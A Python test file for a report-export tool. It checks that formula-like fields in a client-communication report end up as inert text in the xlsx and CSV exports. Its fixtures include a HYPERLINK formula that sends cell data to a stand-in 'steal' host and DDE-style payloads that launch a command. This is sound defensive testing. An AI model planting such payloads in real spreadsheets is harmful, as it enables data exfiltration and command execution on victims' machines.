"""Formula injection in exports: a 客户沟通 report whose fields look like
spreadsheet formulas goes through the real path (Dovecot, ``once``, the
store) and comes out of ``report tracking`` as inert text in the xlsx
workbook and in the CSV."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from conventions.helpers import LI, SYSTEM, ZHANG, Flow, report_body
from support import run

STEAL = '=HYPERLINK("http://x.example/steal?d="&B2&C2,"点击查看客户详情")'
CONTACT = "@SUM(1+1)*cmd|' /C calc'!A0"
LEFTOVER = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def flow(tmp_path, imap_server, smtp_server, capsys):
    return Flow(tmp_path, imap_server, smtp_server, capsys)


def test_formula_like_fields_are_text_in_the_xlsx_and_the_csv(flow, tmp_path):
    sent = flow.send(sender=ZHANG, to=(LI,), cc=(SYSTEM,), subject="客户沟通-华夏银行项目-张三",
                     body=report_body(contact=CONTACT, issue=STEAL, result="问题遗留", remaining=LEFTOVER),
                     message_id="<formula-1@client.example>")
    assert sent and "HB2026-0001" in sent[0].subject, sent
    rows = flow.tracking()
    assert len(rows) == 1, sent[0].text
    assert (rows[0]["沟通的具体问题"], rows[0]["沟通人"], rows[0]["遗留的问题描述"]) == (STEAL, CONTACT, LEFTOVER)

    out = tmp_path / "跟踪表.xlsx"
    assert run(flow.cfg, "report", "tracking", "--format", "xlsx", "--out", str(out)) == 0
    ws = openpyxl.load_workbook(out)["张三"]
    headers = [c.value for c in ws[3]]  # under the title and period rows
    row = {h: c for h, c in zip(headers, ws[4])}
    for field, value in (("沟通的具体问题", STEAL), ("沟通人", CONTACT), ("遗留的问题描述", LEFTOVER)):
        cell = row[field]
        assert (cell.value, cell.data_type) == (value, "s"), field  # shown verbatim, never a formula
        assert cell.quotePrefix, field  # stays text when someone edits the cell
    # No cell anywhere in the workbook is a formula.
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    # Ordinary cells are untouched by the neutralising.
    assert (row["项目"].value, row["项目"].quotePrefix) == ("华夏银行", False)

    csv_out = tmp_path / "跟踪表.csv"
    assert run(flow.cfg, "report", "tracking", "--format", "csv", "--out", str(csv_out)) == 0
    table = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
    got = dict(zip(table[0], table[1]))
    assert (got["沟通的具体问题"], got["沟通人"], got["遗留的问题描述"]) == ("'" + STEAL, "'" + CONTACT, "'" + LEFTOVER)
    assert got["项目"] == "华夏银行"
    assert not [v for r in table for v in r if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_plain_numbers_are_not_mangled():
    from processor.reports.formula import csv_cell, formula_like

    assert [csv_cell(v) for v in ("-1", "+2", "-4.50", "华夏银行", "")] == ["-1", "+2", "-4.50", "华夏银行", ""]
    assert all(formula_like(v) for v in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-"))
